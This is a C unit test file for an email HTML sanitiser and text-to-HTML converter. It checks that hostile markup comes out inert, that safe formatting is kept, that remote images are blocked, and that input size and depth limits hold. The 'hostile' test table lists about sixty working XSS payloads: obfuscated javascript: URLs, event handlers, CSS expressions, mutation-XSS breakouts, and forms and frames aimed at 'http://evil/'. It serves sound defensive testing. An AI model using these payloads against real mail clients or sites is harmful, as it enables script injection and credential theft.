/* Unit tests for the HTML mail sanitiser and plain text to HTML: hostile
 * input of every kind known to us must come out with nothing that can run
 * script, load a frame, a style sheet or (unless allowed) a remote image. */
#define _GNU_SOURCE /* strcasestr */
#include <ctype.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include "ers/buf.h"
#include "ers/mem.h"
#include "ers/sanitize.h"
#include "tap.h"

static const char *const ok_tags[] = {
	"p", "div", "span", "br", "hr", "b", "i", "u", "s", "strike", "strong", "em", "small", "big", "sub",
	"sup", "blockquote", "pre", "code", "tt", "kbd", "samp", "var", "cite", "q", "abbr", "address",
	"mark", "del", "ins", "ul", "ol", "li", "dl", "dt", "dd", "h1", "h2", "h3", "h4", "h5", "h6",
	"table", "thead", "tbody", "tfoot", "tr", "td", "th", "caption", "col", "colgroup", "a", "img",
	"font", "center", "article", "section", "header", "footer", "nav", "aside", "main", "figure",
	"figcaption", "wbr", NULL };
static const char *const ok_attrs[] = {
	"href", "rel", "target", "src", "alt", "width", "height", "border", "title", "lang", "dir", "align",
	"valign", "bgcolor", "colspan", "rowspan", "nowrap", "cellpadding", "cellspacing", "span", "color",
	"size", "face", "start", "type", "value", "noshade", "style", "class", NULL };

static bool in_list(const char *const *list, const char *s, size_t n)
{
	for (; *list; list++)
		if (strlen(*list) == n && strncmp(*list, s, n) == 0)
			return true;
	return false;
}

/* Reads our own output back strictly: every tag is an allowed one, every
 * attribute an allowed name with a double-quoted value free of < and " ,
 * and no URL scheme other than http, https, mailto, cid-mapped and data
 * images; the text has no raw '<' '>' outside tags.  Returns why not, or
 * NULL when safe. */
static const char *unsafe(const char *html)
{
	static char why[200];
	const char *p = html;
	while ((p = strchr(p, '<'))) {
		p++;
		if (*p == '/')
			p++;
		size_t n = strspn(p, "abcdefghijklmnopqrstuvwxyz0123456789");
		if (!in_list(ok_tags, p, n)) {
			snprintf(why, sizeof why, "tag '%.20s'", p);
			return why;
		}
		p += n;
		while (*p == ' ') {
			p++;
			size_t an = strspn(p, "abcdefghijklmnopqrstuvwxyz-");
			if (!in_list(ok_attrs, p, an) || p[an] != '=' || p[an + 1] != '"') {
				snprintf(why, sizeof why, "attribute '%.20s'", p);
				return why;
			}
			const char *v = p + an + 2, *ve = strchr(v, '"');
			if (!ve || memchr(v, '<', (size_t)(ve - v)) || memchr(v, '>', (size_t)(ve - v)))
				return "attribute value not closed";
			if (!strncmp(p, "href", 4) && strncmp(v, "http://", 7) && strncmp(v, "https://", 8) &&
			    strncasecmp(v, "mailto:", 7) && strncasecmp(v, "http", 4))
				return "href scheme";
			if (!strncmp(p, "src", 3) && strncmp(v, "/local/", 7) && strncasecmp(v, "data:image/", 11) &&
			    strncasecmp(v, "http", 4))
				return "src scheme";
			if (!strncmp(p, "style", 5)) {
				char val[2100];
				snprintf(val, sizeof val, "%.*s", (int)(ve - v), v);
				for (char *c = val; *c; c++)
					*c = (char)tolower((unsigned char)*c);
				if (strstr(val, "url") || strstr(val, "expression") || strchr(val, '\\') ||
				    strstr(val, "/*") || strstr(val, "import") || strstr(val, "behavior") ||
				    strstr(val, "position"))
					return "style value";
			}
			p = ve + 1;
		}
		if (*p != '>')
			return "tag not closed";
	}
	if (strcasestr(html, "javascript:") || strcasestr(html, "vbscript:"))
		return "a script URL in the text";
	return NULL;
}

static char *san(const char *html, const struct ers_sanitize_opts *o, size_t *blocked)
{
	struct ers_buf out = ERS_BUF_INIT;
	struct ers_error err;
	if (ers_html_sanitize(html, strlen(html), o, &out, blocked, &err) < 0) {
		diag("sanitize failed: %s", err.message);
		return ers_xstrdup("(failed)");
	}
	return ers_buf_detach(&out);
}

/* Sanitises `html` and checks the result is safe; returns it. */
static char *check(const char *html, const char *name)
{
	char *out = san(html, NULL, NULL);
	const char *why = unsafe(out);
	ok(why == NULL, "%s: safe output", name);
	if (why) {
		diag("why: %s", why);
		tap_diag_value("input", html);
		tap_diag_value("output", out);
	}
	return out;
}

static void hostile(void)
{
	static const struct { const char *name, *html, *gone; } cases[] = {
		{ "script", "<p>hi<script>alert(1)</script></p>", "alert" },
		{ "script in body attr", "<body onload=alert(1)>x", "alert" },
		{ "img onerror", "<img src=x onerror=alert(1)>", "alert" },
		{ "svg onload", "<svg onload=alert(1)><circle/></svg>", "alert" },
		{ "svg script", "<svg><script>alert(1)</script></svg>", "alert" },
		{ "svg animate href", "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>", "animate" },
		{ "math mtext", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "onerror" },
		{ "math href", "<math href=\"javascript:alert(1)\">CLICK</math>", "javascript" },
		{ "javascript href", "<a href=\"javascript:alert(1)\">x</a>", "javascript" },
		{ "javascript entities", "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>", "alert" },
		{ "javascript hex entities", "<a href=\"&#x6A;avascript&colon;alert(1)\">x</a>", "alert" },
		{ "javascript tab", "<a href=\"jav\tascript:alert(1)\">x</a>", "alert" },
		{ "javascript newline", "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>", "alert" },
		{ "javascript leading space", "<a href=\" &#14; javascript:alert(1)\">x</a>", "alert" },
		{ "JAVASCRIPT upper", "<a href=\"JaVaScRiPt:alert(1)\">x</a>", "alert" },
		{ "vbscript", "<a href=\"vbscript:msgbox(1)\">x</a>", "msgbox" },
		{ "data html link", "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>", "data:" },
		{ "style element", "<style>body{background:url(http://evil/)}</style><p>x</p>", "evil" },
		{ "css expression", "<p style=\"width: expression(alert(1))\">x</p>", "expression" },
		{ "css url", "<p style=\"background-color: url(http://evil/x)\">x</p>", "evil" },
		{ "css escape", "<p style=\"color: r\\65 d; background: u\\72l(x)\">x</p>", "\\" },
		{ "css comment", "<p style=\"color:/**/red\">x</p>", "/*" },
		{ "css entity-encoded url", "<p style=\"background-image:&#117;rl(http://evil/)\">x</p>", "evil" },
		{ "css position overlay", "<div style=\"position:fixed;top:0\">x</div>", "position" },
		{ "meta refresh", "<meta http-equiv=refresh content=\"0;url=http://evil/\">", "evil" },
		{ "base href", "<base href=\"http://evil/\"><a href=\"x\">x</a>", "evil" },
		{ "link stylesheet", "<link rel=stylesheet href=http://evil/x.css>", "evil" },
		{ "form", "<form action=http://evil/><input name=p type=password><button>go</button></form>", "evil" },
		{ "iframe srcdoc", "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>", "alert" },
		{ "iframe src", "<iframe src=\"http://evil/\"></iframe>", "evil" },
		{ "object", "<object data=\"http://evil/x.swf\"></object>", "evil" },
		{ "embed", "<embed src=\"http://evil/x.swf\">", "evil" },
		{ "template", "<template><script>alert(1)</script></template>", "alert" },
		{ "noscript trick", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>", "<img" },
		{ "comment trick", "<!--<img src=x onerror=alert(1)>--><p>x</p>", "onerror" },
		{ "conditional comment", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->", "alert" },
		{ "cdata", "<![CDATA[<script>alert(1)</script>]]>", "<script" },
		{ "unclosed attribute", "<p title=\"x><script>alert(1)</script>", "<script" },
		{ "malformed nesting", "<b><i><u>x</b></i><script>alert(1)</u>", "<script" },
		{ "broken tag", "<scr<script>ipt>alert(1)</script>", "<script" },
		{ "slash attribute", "<img/src=x/onerror=alert(1)>", "onerror" },
		{ "null in tag", "<scr\0ipt>alert(1)</script>", "<scr" },
		{ "textarea breakout", "<textarea></textarea><img src=x onerror=alert(1)></textarea>", "onerror" },
		{ "title breakout", "<title><img src=x onerror=alert(1)></title>", "onerror" },
		{ "xmp", "<xmp><img src=x onerror=alert(1)></xmp>", "onerror" },
		{ "formaction", "<button formaction=javascript:alert(1)>x</button>", "alert" },
		{ "video poster", "<video poster=javascript:alert(1)></video>", "alert" },
		{ "a with onclick", "<a href=\"http://ok.example/\" onclick=\"alert(1)\">x</a>", "onclick" },
		{ "id and name clobbering", "<img name=getElementById id=x src=\"data:image/png;base64,AAAA\">", "getElementById" },
		{ "srcset", "<img src=\"data:image/png;base64,AAAA\" srcset=\"http://evil/x.png 2x\">", "evil" },
		{ "background attribute", "<table background=\"http://evil/x.png\"><tr><td>x</td></tr></table>", "evil" },
		{ "dynsrc", "<img dynsrc=\"http://evil/x.avi\">", "evil" },
		{ "xlink", "<a xlink:href=\"javascript:alert(1)\">x</a>", "alert" },
		{ "data svg image", "<img src=\"data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=\">", "svg" },
		{ "frameset", "<frameset><frame src=\"http://evil/\"></frameset>", "evil" },
		{ "applet", "<applet code=evil.class></applet>", "evil" },
		{ "isindex", "<isindex action=javascript:alert(1) type=image>", "alert" },
		{ "style with quote", "<p style='color: red\" onmouseover=\"alert(1)'>x</p>", "onmouseover" },
		{ "font face quote", "<font face='x\" onmouseover=\"alert(1)'>x</font>", "onmouseover" },
	};
	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		size_t len = strlen(cases[i].html);
		if (!strcmp(cases[i].name, "null in tag"))
			len = 27;
		struct ers_buf out = ERS_BUF_INIT;
		struct ers_error err;
		ers_html_sanitize(cases[i].html, len, NULL, &out, NULL, &err);
		const char *why = unsafe(out.data);
		ok(why == NULL && !strcasestr(out.data, cases[i].gone), "%s: safe, no '%s'", cases[i].name,
		   cases[i].gone);
		if (why || strcasestr(out.data, cases[i].gone)) {
			diag("why: %s", why ? why : "unwanted text");
			tap_diag_value("output", out.data);
		}
		ers_buf_free(&out);
	}
}

static void kept(void)
{
	char *o = check("<p>Hello <b>world</b> &amp; <i>you</i></p>", "simple");
	is_str(o, "<p>Hello <b>world</b> &amp; <i>you</i></p>", "... kept as it was");
	free(o);
	o = check("<a href=\"https://example.org/a?b=1&amp;c=2\" onclick=x>link</a>", "link");
	is_str(o, "<a href=\"https://example.org/a?b=1&amp;c=2\" rel=\"noopener noreferrer\" target=\"_blank\">link</a>",
	       "links keep http(s) hrefs, escaped, and get rel and target");
	free(o);
	o = check("<a href=\"mailto:ann@example.org\">mail</a>", "mailto");
	like_str(o, "href=\"mailto:ann@example.org\"", "mailto links stay");
	free(o);
	o = check("<a href=\"/relative\">rel</a><a href=\"ftp://x/\">ftp</a>", "other schemes");
	is_str(o, "<a>rel</a><a>ftp</a>", "relative and ftp hrefs go, the text stays");
	free(o);
	o = check("<a href=\"ht&#x09;tps://example.org/\">t</a>", "tab inside https");
	like_str(o, "href=\"https://example.org/\"", "a tab inside a URL is removed, as browsers do");
	free(o);
	o = check("<table width=\"100%\" border=1 onmouseover=x><tr><td colspan=2 bgcolor=\"#ffcc00\" valign=top style=\"color: red; position: absolute\">c</td></tr></table>", "table");
	is_str(o, "<table width=\"100%\" border=\"1\"><tbody><tr><td colspan=\"2\" bgcolor=\"#ffcc00\" valign=\"top\" style=\"color: red\">c</td></tr></tbody></table>",
	       "table attributes checked, style reduced to the allowed properties");
	free(o);
	o = check("<p style=\"COLOR: #abc; font-weight:bold !important; text-decoration: underline line-through; background-color: rgb(1, 2, 3)\">x</p>", "style subset");
	is_str(o, "<p style=\"color: #abc; font-weight: bold; text-decoration: underline line-through; background-color: rgb(1, 2, 3)\">x</p>",
	       "the CSS subset is rewritten in a normal form");
	free(o);
	o = check("<font color=red face=\"Arial, sans-serif\" size=\"+1\">f</font><center>c</center>", "font");
	is_str(o, "<font color=\"red\" face=\"Arial, sans-serif\" size=\"+1\">f</font><center>c</center>", "font and center stay");
	free(o);
	o = check("<div>a<form action=\"http://x/\">b<label>c</label></form><unknown-el>d</unknown-el></div>", "unwrap");
	is_str(o, "<div>abcd</div>", "form, label and unknown elements go, their text stays");
	free(o);
	o = check("x<script>var a = '<p>';</script>y<style>p{}</style>z", "dropped content");
	is_str(o, "xyz", "script and style content is dropped");
	free(o);
	o = check("<p>1 < 2 > 0 \"q\" 'a'</p>", "text escaping");
	is_str(o, "<p>1 &lt; 2 &gt; 0 &quot;q&quot; &#39;a&#39;</p>", "text is escaped");
	free(o);
	o = check("<p title='\"><script>'>x</p>", "attribute escaping");
	is_str(o, "<p title=\"&quot;&gt;&lt;script&gt;\">x</p>", "attribute values are escaped");
	free(o);
	o = check("<p>caf\xc3\xa9 \xe2\x82\xac</p>", "utf-8");
	is_str(o, "<p>caf\xc3\xa9 \xe2\x82\xac</p>", "UTF-8 text passes");
	free(o);
}

static char *map_cid(const char *cid, void *data)
{
	int *calls = data;
	(*calls)++;
	if (!strcmp(cid, "logo@x"))
		return ers_xstrdup("/local/part/2");
	if (!strcmp(cid, "evil@x"))
		return ers_xstrdup("javascript:alert(1)");
	return NULL;
}

static void images(void)
{
	size_t blocked = 99;
	char *o = san("<p><img src=\"http://tracker.example/p.gif\" alt=\"Logo\" width=10>"
		      "<img src=\"https://cdn.example/x.png\"></p>", NULL, &blocked);
	is_int(blocked, 2, "two remote images blocked");
	is_str(o, "<p><span class=\"ers-blocked-image\">Logo</span><span class=\"ers-blocked-image\"></span></p>",
	       "... each leaving its alt text");
	ok(unsafe(o) == NULL, "... safely");
	free(o);

	struct ers_sanitize_opts opts = { .allow_remote_images = true };
	o = san("<img src=\"http://tracker.example/p.gif\" alt=\"Logo\" width=10 onload=x>", &opts, &blocked);
	is_int(blocked, 0, "with remote images allowed none is blocked");
	is_str(o, "<img src=\"http://tracker.example/p.gif\" alt=\"Logo\" width=\"10\">", "... and the image stays");
	free(o);

	int calls = 0;
	struct ers_sanitize_opts cid = { .cid_url = map_cid, .cid_data = &calls };
	o = san("<img src=\"cid:logo@x\" alt=a><img src=\"CID:evil@x\" alt=b><img src=\"cid:none@x\" alt=c>"
		"<img src=\"cid:logo%40x\">", &cid, &blocked);
	is_int(calls, 4, "the cid: callback is asked for each cid: image");
	is_str(o, "<img src=\"/local/part/2\" alt=\"a\"><span>b</span><span>c</span><img src=\"/local/part/2\">",
	       "cid: images map to local URLs; a bad or unknown answer drops the image, keeping alt");
	is_int(blocked, 0, "... none counted as blocked");
	free(o);

	o = san("<img src=\"data:image/png;base64,iVBORw0KGgo=\"><img src=\"data:image/png;base64,<x>\">"
		"<img src=\"data:text/html;base64,PHNjcmlwdD4=\" alt=t>", NULL, &blocked);
	is_str(o, "<img src=\"data:image/png;base64,iVBORw0KGgo=\"><span>t</span>",
	       "data: images only for image types and base64");
	free(o);
	struct ers_sanitize_opts small = { .data_url_max = 8 };
	o = san("<img src=\"data:image/gif;base64,R0lGODlhAQABAAAAACw=\" alt=big>", &small, NULL);
	is_str(o, "<span>big</span>", "data: images larger than the cap are dropped");
	free(o);
}

static void limits(void)
{
	/* Very deep nesting: flattened, still safe, and quick. */
	struct ers_buf in = ERS_BUF_INIT;
	for (int i = 0; i < 200000; i++)
		ers_buf_adds(&in, "<div>");
	ers_buf_adds(&in, "deep<script>alert(1)</script>");
	struct ers_buf out = ERS_BUF_INIT;
	struct ers_error err;
	ok(ers_html_sanitize(in.data, in.len, NULL, &out, NULL, &err) == 0, "200,000 nested divs: sanitised");
	ok(unsafe(out.data) == NULL && strstr(out.data, "deep") && !strstr(out.data, "<script"), "... safely, text kept");
	size_t opens = 0;
	for (const char *p = out.data; (p = strstr(p, "<div>")); p++)
		opens++;
	ok(opens <= ERS_SANITIZE_MAX_DEPTH, "... at most %d levels written (%zu)", ERS_SANITIZE_MAX_DEPTH, opens);
	ers_buf_reset(&in);
	ers_buf_reset(&out);
	for (int i = 0; i < 3000; i++)
		ers_buf_adds(&in, "<table><tr><td><b><i><a href=\"http://x/\">");
	ok(ers_html_sanitize(in.data, in.len, NULL, &out, NULL, &err) == 0 && unsafe(out.data) == NULL,
	   "deep tables and formatting elements: sanitised safely");

	ers_buf_reset(&in);
	ers_buf_grow(&in, ERS_SANITIZE_MAX_INPUT + 10);
	memset(in.data, 'a', ERS_SANITIZE_MAX_INPUT + 1);
	in.len = ERS_SANITIZE_MAX_INPUT + 1;
	in.data[in.len] = '\0';
	ers_buf_reset(&out);
	ok(ers_html_sanitize(in.data, in.len, NULL, &out, NULL, &err) < 0 && err.code == ERS_E_INVALID,
	   "input over the cap is refused");
	like_str(err.message, "too large", "... saying so");

	ers_buf_reset(&in);
	for (int i = 0; i < 100000; i++)
		ers_buf_adds(&in, "<p>x<img src=x onerror=alert(1)>");
	ers_buf_reset(&out);
	ok(ers_html_sanitize(in.data, in.len, NULL, &out, NULL, &err) == 0 && unsafe(out.data) == NULL &&
	   !strstr(out.data, "onerror"), "3 MB of hostile paragraphs: sanitised safely");
	ers_buf_free(&in);
	ers_buf_free(&out);
}

static void text(void)
{
	struct ers_buf o = ERS_BUF_INIT;
	const char *t = "Hi <ann> & \"bob\"\r\n  indented\n\nsee https://example.org/a?b=1&c=2. or (http://x.example/y)\x01!";
	ers_text_to_html(t, strlen(t), &o);
	is_str(o.data,
	       "Hi &lt;ann&gt; &amp; &quot;bob&quot;<br>\n&nbsp;&nbsp;indented<br>\n<br>\n"
	       "see <a href=\"https://example.org/a?b=1&amp;c=2\" rel=\"noopener noreferrer\" target=\"_blank\">https://example.org/a?b=1&amp;c=2</a>. "
	       "or (<a href=\"http://x.example/y\" rel=\"noopener noreferrer\" target=\"_blank\">http://x.example/y</a>)!",
	       "text: escaped, breaks and indents kept, URLs linked without trailing punctuation");
	ers_buf_reset(&o);
	t = "javascript:alert(1) http://x\"onmouseover=alert(1) xhttp://no.example";
	ers_text_to_html(t, strlen(t), &o);
	unlike_str(o.data, "href=\"javascript", "text: no link for javascript:");
	like_str(o.data, "href=\"http://x\"", "... a quote ends a URL");
	unlike_str(o.data, "href=\"http://no.example", "... a URL glued to a word is not linked");
	ers_buf_free(&o);
}

int main(void)
{
	hostile();
	kept();
	images();
	limits();
	text();
	return done_testing();
}
